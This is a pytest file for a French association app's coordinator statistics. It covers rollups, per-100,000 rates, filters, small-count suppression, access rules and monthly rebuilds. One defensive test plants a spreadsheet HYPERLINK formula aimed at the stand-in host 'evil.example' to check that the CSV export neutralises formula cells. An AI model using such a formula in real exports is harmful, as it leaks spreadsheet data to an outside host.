"""The coordinator's statistics on the real app, SQLite and PostgreSQL: rollups kept by record()
equal a rebuild from the events, aggregates, rates per 100,000, filters, small-count
suppression in CSV and API, bad input and access rules."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, date, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import aiohttp
import jsonschema
import pytest
from sqlalchemy import delete, insert, select

from server import geo, motifs
from server.stats.display import local_today
from server.stats.events import EventKind, record
from server.stats.export import TABLES
from server.stats.filters import parse_filters
from server.stats.queries import Report, build_report
from server.stats.rebuild import event_months, rebuild_in_chunks, rebuild_month, rebuild_rollups
from server.stats.rollups import SESSIONS, UNMET
from server.store.engine import begin_write
from server.store.models import Role, StatEvent, StatRollup, StatRollupMonthly, User
from server.web.views.api_v1 import openapi_document
from tests.conftest import Account, Running, login, make_account

DAY = datetime(2025, 3, 12, 10, 0, tzinfo=UTC)
PERIOD = {"from": "2025-01-01", "to": "2025-12-31"}


def _event_specs(volunteer_id: int) -> list[dict[str, Any]]:
    """A hand-built month: 7 sheets in Paris, 1 in Mayotte, 2 unknown, unmet demand."""
    sheet = {
        "kind": EventKind.SHEET_FILED,
        "channel": "drop_in",
        "themes": ["logement", "social_sante"],
        "organisations": ["caf"],
        "outcome": "resolved",
        "autonomy": "with_help",
        "volunteer_id": volunteer_id,
        "duration_seconds": 1200,
    }
    specs: list[dict[str, Any]] = []
    specs += [{**sheet, "postal_code": "75011"} for _ in range(6)]
    specs.append({**sheet, "postal_code": "75011", "channel": "link", "themes": ["papiers"]})
    specs.append({**sheet, "postal_code": "97600", "duration_seconds": 4000})  # Mayotte
    specs.append({**sheet, "postal_code": "ABCDE"})  # invalid: counted as unknown
    specs.append({**sheet, "postal_code": None, "organisations": ["caf", "cpam"]})
    specs += [
        {"kind": EventKind.QUEUE_LEFT, "reason": "left", "postal_code": "13001"},
        {"kind": EventKind.QUEUE_LEFT, "reason": "gone", "postal_code": "13001"},
        {"kind": EventKind.CALLBACK_EXPIRED, "reason": "too_old", "postal_code": "13001"},
        {"kind": EventKind.CALLBACK_RESOLVED, "reason": "wrong_number", "postal_code": "48000"},
        {"kind": EventKind.CALLBACK_RESOLVED, "reason": "helped", "postal_code": "48000"},
        {"kind": EventKind.NO_SLOT_FOUND, "postal_code": "99999", "theme": "logement"},
        {"kind": EventKind.QUEUE_JOINED, "postal_code": "13001"},
    ]
    return specs


async def _record_all(running: Running, association_id: int, specs: list[dict[str, Any]]) -> None:
    async with running.sessionmaker.begin() as db:
        for i, spec in enumerate(specs):
            spec = dict(spec)
            kind = spec.pop("kind")
            event = await record(db, kind, association_id=association_id, **spec)
            event.occurred_at = DAY + timedelta(hours=i)
            if i % 5 == 0:
                await db.flush()


async def _bulk_insert(running: Running, association_id: int, specs: list[dict[str, Any]]) -> None:
    rows = []
    for i, spec in enumerate(specs):
        spec = dict(spec)
        postal = spec.pop("postal_code", None)
        rows.append(
            {
                "occurred_at": DAY + timedelta(hours=i),
                "association_id": association_id,
                "kind": spec.pop("kind").value,
                "departement": statistics_departement(postal),
                "themes": spec.pop("themes", []),
                "organisations": spec.pop("organisations", []),
                **spec,
            }
        )
    async with running.sessionmaker.begin() as db:
        await db.execute(insert(StatEvent), rows)
        await rebuild_rollups(db, ZoneInfo(running.settings.timezone), association_id)


def statistics_departement(postal: str | None) -> str | None:
    from server.stats.events import departement_of

    return departement_of(postal)


async def _rollups(running: Running, association_id: int) -> dict[tuple[Any, ...], tuple[int, int]]:
    async with running.sessionmaker() as db:
        rows = await db.execute(
            select(StatRollup).where(StatRollup.association_id == association_id)
        )
        return {
            (r.dim, r.channel, r.theme, r.day, r.kind, r.value): (r.count, r.duration_sum)
            for r in rows.scalars()
            if r.count
        }


async def _setup(running: Running, coordinator: Account) -> int:
    await _record_all(running, coordinator.user.association_id, _event_specs(coordinator.user.id))
    return coordinator.user.association_id


async def test_record_keeps_rollups_equal_to_a_rebuild_and_to_a_bulk_import(
    running: Running, coordinator: Account
) -> None:
    association_id = await _setup(running, coordinator)
    incremental = await _rollups(running, association_id)
    assert incremental
    async with running.sessionmaker.begin() as db:
        written = await rebuild_rollups(db, ZoneInfo(running.settings.timezone), association_id)
    assert written == len(incremental)
    assert await _rollups(running, association_id) == incremental
    # The same events bulk-inserted for another association, then rebuilt: same figures.
    other = await make_account(running, "coord-b@example.org", Role.COORDINATOR, "Asso B")
    await _bulk_insert(running, other.user.association_id, _event_specs(coordinator.user.id))
    bulk = await _rollups(running, other.user.association_id)
    assert bulk == incremental
    # A full rebuild (every association) changes nothing either.
    async with running.sessionmaker.begin() as db:
        await rebuild_rollups(db, ZoneInfo(running.settings.timezone))
    assert await _rollups(running, association_id) == incremental


async def test_an_event_changed_after_record_moves_its_counts(
    running: Running, coordinator: Account
) -> None:
    async with running.sessionmaker.begin() as db:
        event = await record(db, EventKind.NO_SHOW)
        event.occurred_at = DAY
        await db.flush()
        event.association_id = coordinator.user.association_id  # as booking.py does
    rows = await _rollups(running, coordinator.user.association_id)
    assert rows[("all", "*", "*", date(2025, 3, 12), "no_show", "")] == (1, 0)
    assert await _rollups(running, 0) == {}


async def test_report_aggregates_and_rates_per_100k(running: Running, coordinator: Account) -> None:
    association_id = await _setup(running, coordinator)
    filters = parse_filters(PERIOD, date(2025, 12, 31))
    async with running.sessionmaker() as db:
        report = await build_report(db, association_id, filters)
    assert report.totals[SESSIONS] == 10
    assert report.totals[f"{SESSIONS}:drop_in"] == 9
    assert report.totals[f"{SESSIONS}:link"] == 1
    assert report.totals[UNMET] == 5  # left, gone, expired, wrong number, no slot
    assert report.volumes[date(2025, 3, 1)][SESSIONS] == 10
    assert report.themes["logement"][SESSIONS] == 9
    assert report.themes["papiers"][SESSIONS] == 1
    assert report.themes["logement"][UNMET] == 1
    assert report.facets["org"] == {"caf": 10, "cpam": 1}
    assert report.facets["outcome"] == {"resolved": 10}
    assert report.facets["dur"] == {"15-30": 9, "60+": 1}
    assert report.facets["vol"] == {str(coordinator.user.id): 10}
    assert report.volunteer_names[str(coordinator.user.id)] == "nadia"
    deps = {d.code: d for d in report.departements}
    population = {d.code: d.population for d in geo.departements()}
    paris = population["75"]
    assert paris is not None
    assert deps["75"].sessions == 7
    assert deps["75"].sessions_rate == pytest.approx(7 * 100_000 / paris)
    assert deps["976"].sessions == 1 and deps["976"].sessions_rate is None  # no population
    assert deps["13"].unmet == 3 and deps["13"].demand == 1
    assert deps["48"].unmet == 1
    assert report.unknown.sessions == 2 and report.unknown.unmet == 1
    ranking = report.ranking()
    # Lozère (~76,000 inhabitants) before Bouches-du-Rhône (~2 million) despite fewer cases.
    assert [d.code for d in ranking] == ["48", "13"]


async def test_filters_by_channel_theme_and_period(running: Running, coordinator: Account) -> None:
    association_id = await _setup(running, coordinator)
    today = date(2025, 12, 31)

    async def totals(**query: str) -> int:
        filters = parse_filters({**PERIOD, **query}, today)
        async with running.sessionmaker() as db:
            report = await build_report(db, association_id, filters)
        return report.totals[SESSIONS]

    assert await totals(channel="link") == 1
    assert await totals(channel="drop_in") == 9
    assert await totals(theme="papiers") == 1
    assert await totals(theme="logement") == 9
    assert await totals(theme="logement", channel="link") == 0
    assert await totals(**{"from": "2025-03-13", "to": "2025-03-31"}) == 0
    assert await totals(**{"from": "2025-03-12", "to": "2025-03-12"}) == 10


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"from": "2025-13-45"}, "Date invalide"),
        ({"from": "2025-06-01", "to": "2025-01-01"}, "date de fin"),
        ({"from": "2000-01-01", "to": "2030-01-01"}, "trop longue"),
        ({"from": "1900-01-01"}, "hors limites"),
        ({"channel": "pigeon"}, "Canal inconnu"),
        ({"theme": "x"}, "Thème inconnu"),
    ],
)
async def test_bad_filters_get_french_messages_not_crashes(
    running: Running,
    coordinator: Account,
    http: aiohttp.ClientSession,
    query: dict[str, str],
    message: str,
) -> None:
    await login(http, running, coordinator)
    async with http.get(running.url("/stats"), params=query) as resp:
        assert resp.status == 400
        assert message in await resp.text()
    async with http.get(running.url("/stats.csv"), params=query) as resp:
        assert resp.status == 400
        assert message in await resp.text()
    async with http.get(running.url("/api/v1/stats"), params=query) as resp:
        assert resp.status == 400
        error = (await resp.json())["error"]
        assert error["code"] == "invalid_filters" and message in error["message"]


async def test_dashboard_shows_the_map_ranking_and_an_empty_period(
    running: Running, coordinator: Account, http: aiohttp.ClientSession
) -> None:
    await _setup(running, coordinator)
    await login(http, running, coordinator)
    async with http.get(running.url("/stats"), params={**PERIOD, "carte": "unmet"}) as resp:
        assert resp.status == 200
        page = await resp.text()
    assert 'data-code="2A"' in page and 'data-code="976"' in page  # Corsica path, Mayotte box
    assert "carte : MapSVG, CC-BY-4.0" in page
    assert "Lozère (48)" in page and "population inconnue" in page
    ranking = page[page.index('id="ranking"') :]
    assert ranking.index("Lozère (48)") < ranking.index("Bouches-du-Rhône (13)")
    async with http.get(
        running.url("/stats"), params={"from": "2024-01-01", "to": "2024-01-31"}
    ) as resp:
        assert resp.status == 200
        assert "Aucune donnée sur cette période" in await resp.text()
    async with http.get(running.url("/stats")) as resp:  # default: the last 12 months
        assert resp.status == 200


async def test_csv_and_api_hide_small_counts(
    running: Running, coordinator: Account, http: aiohttp.ClientSession
) -> None:
    await _setup(running, coordinator)
    await login(http, running, coordinator)
    async with http.get(
        running.url("/stats.csv"), params={**PERIOD, "table": "departements"}
    ) as resp:
        assert resp.status == 200
        assert resp.content_type == "text/csv"
        rows = list(csv.DictReader(io.StringIO(await resp.text())))
    by_code = {row["departement"]: row for row in rows}
    assert by_code["75"]["sessions"] == "7"
    assert by_code["75"]["sessions_per_100k"] != ""
    assert by_code["13"]["unmet"] == "< 5" and by_code["13"]["unmet_per_100k"] == ""
    assert by_code["inconnu"]["sessions"] == "< 5"
    assert by_code["01"]["sessions"] == "0"
    for table in TABLES:
        async with http.get(running.url("/stats.csv"), params={**PERIOD, "table": table}) as resp:
            assert resp.status == 200, table
            assert next(csv.reader(io.StringIO(await resp.text())))
    async with http.get(running.url("/api/v1/stats"), params=PERIOD) as resp:
        assert resp.status == 200
        body = await resp.json()
    assert body["totals"]["sessions"] == 10 and body["totals"]["unmet"] == 5
    deps = {d["code"]: d for d in body["departements"]}
    assert deps["13"]["unmet"] == "< 5" and deps["13"]["unmet_per_100k"] is None
    assert deps["976"]["sessions"] == "< 5"
    assert [d["code"] for d in body["ranking"]] == ["48", "13"]
    assert body["ranking"][0]["unmet"] == "< 5"
    document = openapi_document(running.settings.base_url)
    schema = document["paths"]["/api/v1/stats"]["get"]
    response_schema = schema["responses"]["200"]["content"]["application/json"]["schema"]
    jsonschema.validate(body, {**response_schema, "components": document["components"]})


async def test_only_coordinators_reach_the_statistics(
    running: Running, volunteer: Account, http: aiohttp.ClientSession
) -> None:
    for path in ("/stats", "/stats.csv"):
        async with http.get(running.url(path), allow_redirects=False) as resp:
            assert resp.status == 303 and resp.headers["Location"].startswith("/login")
    async with http.get(running.url("/api/v1/stats")) as resp:
        assert resp.status == 401
        assert (await resp.json())["error"]["code"] == "unauthorized"
    referrer = await make_account(running, "ref@ccas.example.org", Role.REFERRER)
    for account in (volunteer, referrer):
        async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as client:
            await login(client, running, account)
            for path in ("/stats", "/stats.csv"):
                async with client.get(running.url(path)) as resp:
                    assert resp.status == 403
            async with client.get(running.url("/api/v1/stats")) as resp:
                assert resp.status == 403
                assert (await resp.json())["error"]["code"] == "forbidden"


async def test_a_booking_search_without_slot_counts_under_the_postal_codes_departement(
    running: Running, coordinator: Account, http: aiohttp.ClientSession
) -> None:
    async with running.sessionmaker.begin() as db:
        user = await db.get_one(User, coordinator.user.id)
        motif_rows = await motifs.ensure_default_motifs(db, user.association_id)
    motif_id = motif_rows[0].id
    association_id = coordinator.user.association_id
    async with http.get(running.url(f"/rendez-vous?a={association_id}&cp=48000")) as resp:
        assert resp.status == 200
        assert f"/rendez-vous/motif/{motif_id}?a={association_id}" in await resp.text()
    for cp in ("48000", "not-a-code", ""):
        url = running.url(f"/rendez-vous/motif/{motif_id}")
        async with http.get(url, params={"a": str(association_id), "cp": cp}) as resp:
            assert resp.status == 200  # no permanence at all: no slot
    async with running.sessionmaker() as db:
        deps = (
            await db.scalars(
                select(StatEvent.departement)
                .where(StatEvent.kind == EventKind.NO_SLOT_FOUND.value)
                .order_by(StatEvent.id)
            )
        ).all()
    assert deps == ["48", "99", None]
    rollups = await _rollups(running, association_id)
    today = local_today(running.settings.timezone)
    assert rollups[("dep", "*", "*", today, UNMET, "48")] == (1, 0)


async def _monthly(running: Running, association_id: int) -> dict[tuple[Any, ...], tuple[int, int]]:
    async with running.sessionmaker() as db:
        rows = await db.execute(
            select(StatRollupMonthly).where(StatRollupMonthly.association_id == association_id)
        )
        return {
            (r.dim, r.channel, r.theme, r.day, r.kind, r.value): (r.count, r.duration_sum)
            for r in rows.scalars()
            if r.count
        }


def _summed_by_month(
    daily: dict[tuple[Any, ...], tuple[int, int]],
) -> dict[tuple[Any, ...], tuple[int, int]]:
    months: dict[tuple[Any, ...], tuple[int, int]] = {}
    for (dim, channel, theme, day, kind, value), (count, duration) in daily.items():
        key = (dim, channel, theme, day.replace(day=1), kind, value)
        before = months.get(key, (0, 0))
        months[key] = (before[0] + count, before[1] + duration)
    return months


# Instants near the ends of months: in Paris, 2025-03-31 22:30 UTC is already 1 April.
BOUNDARIES = (
    datetime(2025, 2, 28, 22, 59, tzinfo=UTC),  # 23:59 on 28 February in Paris (UTC+1)
    datetime(2025, 2, 28, 23, 30, tzinfo=UTC),  # 00:30 on 1 March in Paris
    datetime(2025, 3, 31, 21, 30, tzinfo=UTC),  # 23:30 on 31 March in Paris (UTC+2)
    datetime(2025, 3, 31, 22, 30, tzinfo=UTC),  # 00:30 on 1 April in Paris
)


async def test_monthly_rollups_follow_local_months_edits_and_deletes(
    running: Running, coordinator: Account
) -> None:
    association_id = coordinator.user.association_id
    async with running.sessionmaker.begin() as db:
        events = []
        for moment in BOUNDARIES:
            event = await record(
                db,
                EventKind.SHEET_FILED,
                association_id=association_id,
                channel="link",
                themes=["papiers"],
                organisations=["ants"],
                postal_code="75011",
                duration_seconds=600,
                volunteer_id=coordinator.user.id,
            )
            event.occurred_at = moment
            events.append(event)
    daily = await _rollups(running, association_id)
    monthly = await _monthly(running, association_id)
    assert monthly == _summed_by_month(daily)
    sheets = {k[3]: v[0] for k, v in monthly.items() if k[:3] == ("all", "*", "*")}
    assert sheets == {date(2025, 2, 1): 1, date(2025, 3, 1): 2, date(2025, 4, 1): 1}
    # A late edit moves an event to another month; a delete removes it from both tiers.
    async with running.sessionmaker.begin() as db:
        moved = await db.get_one(StatEvent, events[0].id)
        moved.occurred_at = datetime(2025, 5, 15, 10, tzinfo=UTC)
        moved.channel = "drop_in"
        await db.delete(await db.get_one(StatEvent, events[3].id))
    daily = await _rollups(running, association_id)
    monthly = await _monthly(running, association_id)
    assert monthly == _summed_by_month(daily)
    sheets = {k[3]: v[0] for k, v in monthly.items() if k[:3] == ("all", "*", "*")}
    assert sheets == {date(2025, 3, 1): 2, date(2025, 5, 1): 1}
    async with running.sessionmaker.begin() as db:
        await rebuild_rollups(db, ZoneInfo(running.settings.timezone), association_id)
    assert await _rollups(running, association_id) == daily
    assert await _monthly(running, association_id) == monthly


async def test_reports_read_from_months_and_edge_days_equal_reports_from_days(
    running: Running, coordinator: Account
) -> None:
    association_id = await _setup(running, coordinator)
    async with running.sessionmaker.begin() as db:
        for moment in BOUNDARIES:
            event = await record(
                db, EventKind.SHEET_FILED, association_id=association_id, channel="link"
            )
            event.occurred_at = moment
    today = date(2025, 12, 31)

    async def report(query: dict[str, str]) -> Report:
        async with running.sessionmaker() as db:
            filters = parse_filters(query, today)
            return await build_report(db, association_id, filters)

    for period in (
        {"from": "2025-01-01", "to": "2025-12-31"},  # whole months only
        {"from": "2025-02-28", "to": "2025-04-01"},  # edge days around one whole month
        {"from": "2025-03-12", "to": "2025-03-31"},  # days only
    ):
        for extra in ({}, {"channel": "link"}, {"theme": "logement"}):
            by_month = await report({**period, **extra})
            by_day = await report({**period, **extra, "step": "week"})  # the daily table
            assert by_month.totals == by_day.totals
            assert by_month.duration_sum == by_day.duration_sum
            assert by_month.themes == by_day.themes
            assert by_month.facets == by_day.facets
            assert [(d.code, d.sessions, d.unmet, d.demand) for d in by_month.departements] == [
                (d.code, d.sessions, d.unmet, d.demand) for d in by_day.departements
            ]
    march = await report({"from": "2025-03-01", "to": "2025-03-31"})
    assert march.totals[SESSIONS] == 10 + 2  # 1 March 00:30 and 31 March 23:30
    april_first = await report({"from": "2025-04-01", "to": "2025-04-01"})
    assert april_first.totals[SESSIONS] == 1


async def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(
    running: Running, coordinator: Account, http: aiohttp.ClientSession
) -> None:
    """Names typed by people (a volunteer's, an organisation code from old sheets) reach the
    CSV: one starting with =, +, -, @, tab or CR gets a leading quote (OWASP)."""
    formula = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
    evil = await make_account(running, "evil@example.org")
    async with running.sessionmaker.begin() as db:
        user = await db.get_one(User, evil.user.id)
        user.name = formula
    codes = ["+33 6 12", "-1+2", "@SUM(A1:A9)", "\tTAB", "\rCR", "caf"]
    specs = [
        {
            "kind": EventKind.SHEET_FILED,
            "channel": "drop_in",
            "organisations": codes,
            "volunteer_id": evil.user.id,
            "postal_code": "75011",
        }
        for _ in range(6)
    ]
    await _record_all(running, coordinator.user.association_id, specs)
    await login(http, running, coordinator)
    cells: dict[str, list[list[str]]] = {}
    for table in ("volunteers", "organisations"):
        async with http.get(running.url("/stats.csv"), params={**PERIOD, "table": table}) as resp:
            assert resp.status == 200
            cells[table] = list(csv.reader(io.StringIO(await resp.text(), newline="")))
    assert ["'" + formula, "6"] == cells["volunteers"][1][1:]
    labels = {row[1] for row in cells["organisations"][1:]}
    assert {"'+33 6 12", "'-1+2", "'@SUM(A1:A9)", "'\tTAB", "'\rCR"} <= labels
    for row in cells["volunteers"] + cells["organisations"]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


async def test_weekly_volumes_are_the_sums_of_their_local_days(
    running: Running, coordinator: Account
) -> None:
    association_id = coordinator.user.association_id
    zone = ZoneInfo(running.settings.timezone)
    moments = [*BOUNDARIES, *(DAY + timedelta(days=n, hours=n % 13) for n in range(0, 40, 3))]
    async with running.sessionmaker.begin() as db:
        for number, moment in enumerate(moments):
            channel = "link" if number % 2 else "drop_in"
            event = await record(
                db, EventKind.SHEET_FILED, association_id=association_id, channel=channel
            )
            event.occurred_at = moment
    expected: dict[date, int] = {}
    for moment in moments:
        local = moment.astimezone(zone).date()
        monday = local - timedelta(days=local.weekday())
        expected[monday] = expected.get(monday, 0) + 1
    async with running.sessionmaker() as db:
        # From a Wednesday: the first week is counted from that day, under its Monday.
        filters = parse_filters(
            {"from": "2025-02-26", "to": "2025-05-01", "step": "week"}, DAY.date()
        )
        report = await build_report(db, association_id, filters)
    assert {week: c[SESSIONS] for week, c in report.volumes.items() if c[SESSIONS]} == expected
    assert all(week.weekday() == 0 for week in report.volumes)
    for counts in report.volumes.values():
        assert counts[f"{SESSIONS}:link"] + counts[f"{SESSIONS}:drop_in"] == counts[SESSIONS]
    assert report.totals[SESSIONS] == len(moments)


async def test_stats_rebuild_command_repairs_the_rollups_with_progress_and_is_idempotent(
    running: Running, coordinator: Account, capsys: pytest.CaptureFixture[str]
) -> None:
    from server import cli

    args = cli.build_parser().parse_args(["stats", "rebuild"])
    assert (args.command, args.stats_command, args.association) == ("stats", "rebuild", None)
    association_id = await _setup(running, coordinator)
    async with running.sessionmaker.begin() as db:
        event = await record(db, EventKind.SHEET_FILED, association_id=association_id)
        event.occurred_at = BOUNDARIES[0]  # February, a month before the others
    daily = await _rollups(running, association_id)
    monthly = await _monthly(running, association_id)
    assert monthly == _summed_by_month(daily)
    # Damage: rows lost in one month, a stray row in it, stray rows outside the events' months.
    async with running.sessionmaker.begin() as db:
        await db.execute(delete(StatRollup).where(StatRollup.dim == "dep"))
        for table, day in (
            (StatRollup, date(2025, 3, 13)),
            (StatRollup, date(2024, 6, 1)),
            (StatRollupMonthly, date(2026, 1, 1)),
        ):
            db.add(
                table(
                    association_id=association_id,
                    dim="all",
                    channel="*",
                    theme="*",
                    day=day,
                    kind="stray",
                    value="",
                    count=5,
                    duration_sum=0,
                )
            )
    assert await _rollups(running, association_id) != daily
    for _run in range(2):  # a second run changes nothing
        await cli._stats_rebuild(running.settings, args.association)  # what main() runs
        out = capsys.readouterr().out
        assert "1/2 mois (2025-02)" in out
        assert "2/2 mois (2025-03)" in out
        assert "Statistiques recalculées" in out
        assert await _rollups(running, association_id) == daily
        assert await _monthly(running, association_id) == monthly


async def test_a_rebuild_while_events_are_recorded_loses_and_doubles_nothing(
    running: Running, coordinator: Account
) -> None:
    association_id = coordinator.user.association_id
    zone = ZoneInfo(running.settings.timezone)
    months = [datetime(2025, month, 10, 9, tzinfo=UTC) for month in (1, 2, 3, 4)]
    rows = [
        {
            "occurred_at": months[n % 4] + timedelta(hours=n % 8, days=n % 11),
            "association_id": association_id,
            "kind": EventKind.SHEET_FILED.value,
            "channel": "link",
            "themes": ["papiers"],
            "organisations": [],
        }
        for n in range(400)
    ]
    async with running.sessionmaker.begin() as db:
        await db.execute(insert(StatEvent), rows)  # no rollups yet: the rebuild makes them

    async def write() -> None:
        for n in range(24):
            async with running.sessionmaker.begin() as db:
                event = await record(
                    db, EventKind.SHEET_FILED, association_id=association_id, channel="drop_in"
                )
                event.occurred_at = months[n % 4] + timedelta(days=n)
            await asyncio.sleep(0)

    written, _ = await asyncio.gather(
        rebuild_in_chunks(running.sessionmaker, zone, association_id), write()
    )
    assert written > 0
    during = await _rollups(running, association_id)
    async with running.sessionmaker.begin() as db:
        await rebuild_rollups(db, zone, association_id)
    assert await _rollups(running, association_id) == during
    sheets = sum(v[0] for k, v in during.items() if k[:3] == ("all", "*", "*"))
    assert sheets == 400 + 24


async def test_a_month_rebuilt_with_a_stale_prefix_search_overwrites_the_rows_it_missed(
    running: Running, coordinator: Account
) -> None:
    # Prefixes found before the rows existed (live events recorded since the search): the
    # month's rebuild must still replace those rows, not add to them nor fail on them.
    association_id = await _setup(running, coordinator)
    daily = await _rollups(running, association_id)
    monthly = await _monthly(running, association_id)
    zone = ZoneInfo(running.settings.timezone)
    stale: dict[str, list[tuple[Any, ...]]] = {
        StatRollup.__tablename__: [],
        StatRollupMonthly.__tablename__: [],
    }
    async with running.sessionmaker.begin() as db:
        months = await event_months(db, zone)
    assert months
    for month in months:
        async with running.sessionmaker.begin() as db:
            await begin_write(db)
            await rebuild_month(db, zone, month, association_id, stale)
    assert await _rollups(running, association_id) == daily
    assert await _monthly(running, association_id) == monthly
